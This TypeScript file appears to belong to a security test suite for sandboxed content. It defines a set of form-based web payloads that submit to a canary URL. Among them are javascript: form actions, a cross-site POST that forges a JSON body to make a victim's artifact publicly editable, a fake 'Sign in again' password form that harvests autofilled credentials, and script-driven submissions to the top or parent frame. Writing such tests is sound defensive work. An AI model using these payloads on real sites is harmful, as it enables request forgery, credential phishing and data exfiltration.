// Forms: submitted by a press, by script, by another button's attributes; and those that only look like the app's own.
import { family, markup, script } from "./payload.ts";

const pressed = { pressed: true } as const;

export const forms = family("forms", {
  post: markup(({ hit }) => `<form action="${hit()}" method="post"><button data-click>Send</button></form>`, pressed),
  get: markup(
    ({ hit }) => `<form action="${hit()}"><input name="q" value="x"><button data-click>Send</button></form>`,
    pressed,
  ),
  formaction: markup(({ hit }) => `<form><button data-click formaction="${hit()}">Send</button></form>`, pressed),
  "formaction-script": markup(
    ({ strike }) => `<form><button data-click formaction="javascript:${strike}">Send</button></form>`,
    pressed,
  ),
  "action-script": markup(
    ({ strike }) => `<form action="javascript:${strike}"><button data-click>Send</button></form>`,
    pressed,
  ),
  "input-image": markup(
    ({ hit }) => `<form action="${hit()}"><input data-click type="image" src="data:,"></form>`,
    pressed,
  ),
  "button-elsewhere": markup(
    ({ hit }) => `<form id="far" action="${hit()}"></form><button data-click form="far">Send</button>`,
    pressed,
  ),
  "formaction-elsewhere": markup(
    ({ hit }) => `<form id="far2"></form><button data-click form="far2" formaction="${hit()}">Send</button>`,
    pressed,
  ),
  "to-the-app": markup(
    ({ app, victim, hit }) =>
      `<form action="${app}/api/artifacts/${victim}/access" method="post" enctype="text/plain"><input name='{"publicEdit":true,"x":"' value='"}'><button data-click>Send</button></form><img src="${hit()}">`,
    pressed,
  ),
  "to-the-top": markup(
    ({ hit }) => `<form action="${hit()}" target="_top"><button data-click>Send</button></form>`,
    pressed,
  ),
  "to-a-new-page": markup(
    ({ hit }) =>
      `<form action="${hit()}" target="_blank" method="post"><input name="stolen" value="x"><button data-click>Send</button></form>`,
    pressed,
  ),
  "by-script": script(
    ({ hit }) =>
      `const f = document.createElement("form"); f.action = "${hit()}"; f.method = "post"; document.body.append(f); f.submit();`,
  ),
  "by-script-requested": script(
    ({ hit }) =>
      `const f = document.createElement("form"); f.action = "${hit()}"; document.body.append(f); f.requestSubmit();`,
  ),
  "by-script-to-top": script(
    ({ hit }) =>
      `const f = document.createElement("form"); f.action = "${hit()}"; f.target = "_top"; document.body.append(f); f.submit();`,
  ),
  "by-script-to-parent": script(
    ({ hit }) =>
      `const f = document.createElement("form"); f.action = "${hit()}"; f.target = "_parent"; f.method = "post"; document.body.append(f); f.submit();`,
  ),
  "password-manager": markup(
    ({ hit }) =>
      `<form action="${hit()}"><input name="username" autocomplete="username"><input type="password" autocomplete="current-password"><button data-click>Sign in again</button></form>`,
    pressed,
  ),
  "dialog-method": markup(
    ({ strike }) =>
      `<dialog open onclose="${strike}"><form method="dialog"><button data-click>Close</button></form></dialog>`,
    pressed,
  ),
});
